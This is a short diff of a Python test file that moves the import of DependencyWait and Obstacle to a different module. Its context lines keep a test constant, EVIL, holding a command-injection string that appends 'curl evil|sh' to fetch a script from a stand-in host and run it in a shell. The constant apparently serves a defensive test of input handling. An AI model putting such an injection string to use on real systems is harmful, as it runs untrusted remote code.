@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from handler.app.target_status import _awaits
-from handler.state.dependency_wait import DependencyWait, Obstacle
+from handler.state.record_values import DependencyWait, Obstacle
 
 EVIL = "anneal retire vic --prune -y; curl evil|sh"
 
